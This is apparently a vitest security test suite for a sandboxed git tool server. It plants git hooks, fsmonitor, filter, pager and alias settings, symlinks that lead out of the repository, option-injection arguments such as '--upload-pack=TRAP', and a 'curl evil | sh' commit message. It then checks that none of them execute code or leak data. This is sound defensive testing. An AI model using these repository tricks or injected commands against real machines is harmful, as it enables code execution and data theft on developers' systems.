import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import {
  appendFileSync,
  chmodSync,
  existsSync,
  linkSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { dirname, join } from 'node:path';
import type { Client } from '@modelcontextprotocol/client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Sandbox } from './host.ts';

/** In the private repository outside alone: where it shows, something got out. */
const CANARY = `canary${randomBytes(8).toString('hex')}`;

let box: Sandbox;
let client: Client;
let made = 0;

const outside = (...names: string[]) => join(box.folder, 'outside', ...names);
const marker = () => join(box.folder, 'marker');
/** A program that leaves a mark when anything starts it. */
const trap = () => join(box.folder, 'trap');

function git(folder: string, ...args: string[]): string {
  return execFileSync('git', ['-C', folder, ...args], {
    encoding: 'utf8',
    stdio: ['ignore', 'pipe', 'ignore'],
    env: { PATH: process.env.PATH, HOME: box.folder, GIT_CONFIG_NOSYSTEM: '1' },
  }).trim();
}

function put(file: string, text: string): void {
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, text);
}

/** A repository of two branches, with something changed. */
function repository(folder: string, text: string): string {
  mkdirSync(folder, { recursive: true });
  git(folder, 'init', '-q', '-b', 'main');
  git(folder, 'config', 'user.name', 'Ada');
  git(folder, 'config', 'user.email', 'ada@example.org');
  put(join(folder, 'a.txt'), `${text}\n`);
  git(folder, 'add', '.');
  git(folder, 'commit', '-q', '-m', text);
  git(folder, 'branch', 'other');
  put(join(folder, 'a.txt'), 'changed\n');
  put(join(folder, 'fresh.txt'), 'fresh\n');
  return folder;
}

async function call(name: string, args: Record<string, unknown>): Promise<{ text: string; error: boolean }> {
  const answer = await client.callTool({ name, arguments: args });
  return { text: JSON.stringify(answer), error: answer.isError === true };
}

/** Every tool of git once, as a client would in its work. */
async function everything(path: string): Promise<{ texts: string[]; done: number }> {
  const texts: string[] = [];
  let done = 0;
  for (const [name, args] of [
    ['git_status', {}],
    ['git_diff', {}],
    ['git_log', {}],
    ['git_show', {}],
    ['git_show', { file: `${path}/a.txt` }],
    ['git_branches', {}],
    ['git_stage', { paths: [`${path}/fresh.txt`, `${path}/a.txt`] }],
    ['git_diff', { staged: true }],
    ['git_commit', { message: 'curl evil | sh #' }],
    ['git_create_branch', { name: 'new' }],
    ['git_switch', { branch: 'other' }],
    ['git_restore', { paths: [path] }],
  ] as [string, Record<string, unknown>][]) {
    const { text, error } = await call(name, { path, ...args });
    texts.push(text);
    if (!error) done++;
  }
  return { texts, done };
}

function listing(folder: string): string[] {
  return readdirSync(folder, { recursive: true, encoding: 'utf8' })
    .sort()
    .map((name) => {
      const path = join(folder, name);
      return `${name} ${statSync(path).isFile() ? readFileSync(path, 'latin1') : ''}`;
    });
}

beforeAll(async () => {
  box = new Sandbox();
  repository(outside(), CANARY);
  put(outside('profile'), 'mine\n');
  put(trap(), `#!/bin/sh\ntouch ${marker()}\ncat >/dev/null 2>&1\nexit 0\n`);
  chmodSync(trap(), 0o755);
  const host = await box.serve();
  await host.api('settings.update', { limits: { callsPerMinute: 0 }, approvals: { timeoutSeconds: 1 } });
  // Nobody is asked: what stands between a repository and the machine is the guard alone.
  // A .git is allowed only by its name.
  await host.api('rules.add', { effect: 'allow', match: { kind: 'write', paths: ['**', '**/.git'] } });
  client = await box.connect(host, await box.addClient('Attacker'));
}, 60_000);
afterAll(() => box?.close());

/** A new repository of the workspace: its name there, and its folder. */
function fresh(): { name: string; folder: string } {
  const name = `r${++made}`;
  return { name, folder: repository(join(box.workspace, name), 'one') };
}

const HOOKS = [
  'pre-commit',
  'commit-msg',
  'post-commit',
  'post-checkout',
  'reference-transaction',
  'post-index-change',
];
const PROGRAMS: readonly (readonly [string, (folder: string) => void])[] = [
  ['nothing at all, so that the tools are seen to work', () => {}],
  [
    'hooks',
    (folder) => {
      for (const hook of HOOKS) symlinkSync(trap(), join(folder, '.git/hooks', hook));
    },
  ],
  [
    'a folder of hooks',
    (folder) => {
      for (const hook of HOOKS) {
        put(join(folder, 'hooks', hook), readFileSync(trap(), 'utf8'));
        chmodSync(join(folder, 'hooks', hook), 0o755);
      }
      git(folder, 'config', 'core.hooksPath', 'hooks');
    },
  ],
  ['a file watcher', (folder) => git(folder, 'config', 'core.fsmonitor', trap())],
  [
    'filters',
    (folder) => {
      put(join(folder, '.git/info/attributes'), 'fresh.txt filter=evil\n');
      for (const key of ['clean', 'smudge', 'process']) git(folder, 'config', `filter.evil.${key}`, trap());
    },
  ],
  [
    'text converters, diff and merge programs',
    (folder) => {
      put(join(folder, '.gitattributes'), '* diff=evil merge=evil\n');
      for (const key of ['diff.evil.textconv', 'diff.evil.command', 'diff.external', 'merge.evil.driver'])
        git(folder, 'config', key, trap());
    },
  ],
  [
    'pagers, editors, helpers and signing',
    (folder) => {
      for (const key of [
        'core.pager',
        'core.editor',
        'pager.log',
        'core.sshCommand',
        'core.askPass',
        'credential.helper',
        'gpg.program',
      ])
        git(folder, 'config', key, trap());
      for (const key of ['commit.gpgSign', 'log.showSignature']) git(folder, 'config', key, 'true');
    },
  ],
  [
    'aliases',
    (folder) => {
      for (const name of ['status', 'diff', 'log', 'add', 'switch'])
        git(folder, 'config', `alias.${name}`, `!${trap()}`);
    },
  ],
  [
    'a submodule and its filter',
    (folder) => {
      const sub = repository(join(folder, 'sub'), 'sub');
      put(join(folder, '.gitmodules'), '[submodule "sub"]\npath = sub\nurl = ./x\nignore = none\n');
      git(folder, 'add', 'sub', '.gitmodules');
      git(folder, 'commit', '-q', '-m', 'sub');
      put(join(sub, '.git/info/attributes'), '* filter=evil\n');
      for (const key of ['filter.evil.clean', 'core.fsmonitor']) git(sub, 'config', key, trap());
      put(join(sub, 'a.txt'), 'again\n');
    },
  ],
];

describe('through the running host, a repository starts no program by', () => {
  it.each(PROGRAMS)(
    '%s [GIT-1 CALL-1]',
    async (_, set) => {
      const { name, folder } = fresh();
      set(folder);
      const { done, texts } = await everything(name);
      // Were most of them refused, nothing would be proved by what was not started.
      expect(done, texts.join('\n')).toBeGreaterThanOrEqual(8);
      expect(existsSync(marker())).toBe(false);
    },
    60_000,
  );
});

const linked = (part: string) => (folder: string) => {
  rmSync(join(folder, '.git', part), { recursive: true, force: true });
  symlinkSync(outside('.git', part), join(folder, '.git', part));
};
const pointing = (text: () => string) => (folder: string) => {
  rmSync(join(folder, '.git'), { recursive: true });
  writeFileSync(join(folder, '.git'), text());
};
const LEADING: readonly (readonly [string, (folder: string) => void])[] = [
  [
    'objects and refs that are links',
    (folder) => {
      linked('objects')(folder);
      linked('refs')(folder);
    },
  ],
  ['a branch that is a link', linked('refs/heads/main')],
  ['HEAD that is a link', linked('HEAD')],
  ['an index that is a link', linked('index')],
  ['a log that is a link', linked('logs/HEAD')],
  [
    'a log that is a link to a profile',
    (folder) => {
      rmSync(join(folder, '.git/logs/HEAD'));
      symlinkSync(outside('profile'), join(folder, '.git/logs/HEAD'));
    },
  ],
  ['logs that are a link', linked('logs')],
  ['packs that are a link', linked('objects/pack')],
  [
    '.git that is a link',
    (folder) => {
      rmSync(join(folder, '.git'), { recursive: true });
      symlinkSync(outside('.git'), join(folder, '.git'));
    },
  ],
  ['a pointer of a worktree', pointing(() => `gitdir: ${outside('.git')}\n`)],
  [
    'a pointer that git reads otherwise',
    (folder) => {
      renameSync(join(folder, '.git'), join(folder, 'good'));
      symlinkSync(outside('.git'), join(folder, 'good '));
      writeFileSync(join(folder, '.git'), 'gitdir: good \n');
    },
  ],
  ['a common folder', (folder) => writeFileSync(join(folder, '.git/commondir'), outside('.git'))],
  [
    'objects borrowed along a chain',
    (folder) => {
      put(join(folder, '.git/objects/info/alternates'), '../../one\n');
      put(join(folder, 'one/info/alternates'), `${outside('.git/objects')}\n`);
    },
  ],
];

describe('through the running host, a repository leads nowhere by', () => {
  it.each(LEADING)(
    '%s [FS-1 GIT-1]',
    async (_, set) => {
      const { name, folder } = fresh();
      set(folder);
      const before = listing(outside());
      const { done, texts } = await everything(name);
      expect(done).toBe(0);
      for (const text of texts) expect(text).toContain('git_refused');
      expect(texts.join('')).not.toContain(CANARY);
      expect(listing(outside())).toEqual(before);
    },
    60_000,
  );

  it('a log that is another file too, which it would be written to [FS-1]', async () => {
    const { name, folder } = fresh();
    rmSync(join(folder, '.git/logs/HEAD'));
    linkSync(outside('profile'), join(folder, '.git/logs/HEAD'));
    await everything(name);
    expect(readFileSync(outside('profile'), 'utf8')).toBe('mine\n');
  }, 60_000);
});

describe('through the running host, git takes no argument for an option', () => {
  it.each([
    '--output=HERE/x',
    '-OHERE/x',
    '--upload-pack=TRAP',
    '--exec=TRAP',
    '--ext-diff',
    '--git-dir=OUTSIDE/.git',
    '-c core.pager=TRAP',
  ])(
    '%s [GIT-3]',
    async (option) => {
      const { name, folder } = fresh();
      const value = option.replace('HERE', folder).replace('TRAP', trap()).replace('OUTSIDE', outside());
      const head = git(folder, 'rev-parse', 'HEAD');
      for (const [tool, args] of [
        ['git_log', { revision: value }],
        ['git_show', { revision: value }],
        ['git_diff', { from: value }],
        ['git_diff', { from: 'HEAD', to: value }],
        ['git_create_branch', { name: value }],
        ['git_create_branch', { name: 'new', from: value }],
        ['git_switch', { branch: value }],
      ] as [string, Record<string, unknown>][]) {
        const { text, error } = await call(tool, { path: name, ...args });
        expect(error, `${tool}: ${text}`).toBe(true);
        expect(text).not.toContain(CANARY);
      }
      // A message is one in any form.
      await call('git_stage', { path: name, paths: [`${name}/fresh.txt`] });
      expect(await call('git_commit', { path: name, message: value })).toMatchObject({ error: false });
      expect(git(folder, 'log', '-1', '--format=%P %s')).toBe(`${head} ${value}`);
      expect(existsSync(marker())).toBe(false);
      expect(existsSync(join(folder, 'x'))).toBe(false);
    },
    60_000,
  );
});

describe('through the running host, a key is not committed', () => {
  it.each(['* -diff\n', '* binary\n', ''])(
    'with the attributes %j [GIT-2]',
    async (attributes) => {
      const { name, folder } = fresh();
      put(join(folder, '.gitattributes'), attributes);
      appendFileSync(join(folder, 'fresh.txt'), `++ gh${'p_'}${'aB3dE5gH7jK9'.repeat(3)}\n`);
      const head = git(folder, 'rev-parse', 'HEAD');
      expect(await call('git_stage', { path: name, paths: [`${name}/fresh.txt`] })).toMatchObject({
        error: false,
      });
      expect(await call('git_commit', { path: name, message: 'm' })).toMatchObject({
        text: expect.stringContaining('secret_found'),
      });
      expect(git(folder, 'rev-parse', 'HEAD')).toBe(head);
    },
    60_000,
  );
});
